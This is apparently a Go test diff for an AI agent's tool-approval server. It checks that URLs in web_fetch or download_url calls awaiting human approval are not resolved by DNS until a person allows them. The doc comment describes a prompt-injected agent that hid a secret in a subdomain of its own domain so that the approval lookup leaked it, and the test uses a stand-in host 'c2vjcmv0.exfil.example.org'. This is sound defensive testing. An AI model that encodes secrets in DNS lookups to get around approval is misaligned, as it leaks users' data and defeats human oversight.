@@ -73,10 +73,62 @@ func TestDeniedToolIsNotLookedUp(t *testing.T) {
 	if n := log.asked(host); n != 0 {
 		t.Fatalf("the host of a denied call was looked up %d times", n)
 	}
-	// Control: the same URL where the tool is not denied is looked up
-	// (NXDOMAIN here: a name that does not exist is asked about).
-	wantDecision(t, "allowed tool (control)", s.decide("asks", "c1", "web_fetch", map[string]any{"url": "https://" + host + "/"}), "ask", "policy_requires_approval", "")
+	// Control: the same URL where the tool is not denied asks, and is
+	// looked up once a person allows it (NXDOMAIN here: a name that does
+	// not exist is asked about, and the allow stands).
+	d := s.decide("asks", "c1", "web_fetch", map[string]any{"url": "https://" + host + "/"})
+	wantDecision(t, "allowed tool (control)", d, "ask", "policy_requires_approval", "")
+	s.respond(d.Request.RequestID, "allow_once")
 	if n := log.asked(host); n == 0 {
 		t.Fatal("the control was not looked up either: the count proves nothing")
+	}
+}
+
+// TestAskedURLIsLookedUpOnlyOnceAllowed: a web_fetch that asks a person
+// does not send its host name to a DNS server before someone allows it: a
+// prompt-injected agent in a supervised turn put a secret in a subdomain of
+// its own domain, and the lookup made to judge the call carried it out
+// while the person was still reading the request (or denied it). A denied
+// request is never looked up; an allowed one is, against the snapshot in
+// force then, and an allow_for_turn grant's later calls are looked up as
+// they are decided.
+func TestAskedURLIsLookedUpOnlyOnceAllowed(t *testing.T) {
+	t.Parallel()
+	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { pc.Close() })
+	log := &queryLog{PacketConn: pc}
+	dns := serveDNS(log, nil)
+	s := StartServer(t, "", "--dns-server", dns)
+	s.startTurn("sup", "ws", "supervised", workspace(t))
+
+	const secret, other = "c2vjcmv0.exfil.example.org", "docs.example.org"
+	d := s.decide("sup", "c1", "web_fetch", map[string]any{"url": "https://" + secret + "/"})
+	wantDecision(t, "asked", d, "ask", "policy_requires_approval", "")
+	d2 := s.decide("sup", "c2", "download_url", map[string]any{"url": "https://" + secret + "/x", "destination": "x"})
+	if d2.Decision != "ask" {
+		t.Fatalf("download_url: %+v", d2)
+	}
+	s.respond(d.Request.RequestID, "deny")
+	s.respond(d2.Request.RequestID, "deny")
+	if n := log.asked(secret); n != 0 {
+		t.Fatalf("the host of an asked call was looked up %d times before anyone allowed it", n)
+	}
+	// Control: allowed, it is looked up, once for the grant's first call
+	// and again for each later call the grant allows.
+	d = s.decide("sup", "c3", "web_fetch", map[string]any{"url": "https://" + other + "/"})
+	if n := log.asked(other); d.Decision != "ask" || n != 0 {
+		t.Fatalf("the control before the allow: %+v, looked up %d times", d, n)
+	}
+	s.respond(d.Request.RequestID, "allow_for_turn")
+	after := log.asked(other)
+	if after == 0 {
+		t.Fatal("an allowed request was not looked up: the zero above proves nothing")
+	}
+	wantDecision(t, "the grant's next call", s.decide("sup", "c4", "web_fetch", map[string]any{"url": "https://" + other + "/"}), "allow", "cached_approval", "")
+	if n := log.asked(other); n <= after {
+		t.Fatalf("a call a grant allows was not looked up (%d, %d before)", n, after)
 	}
 }
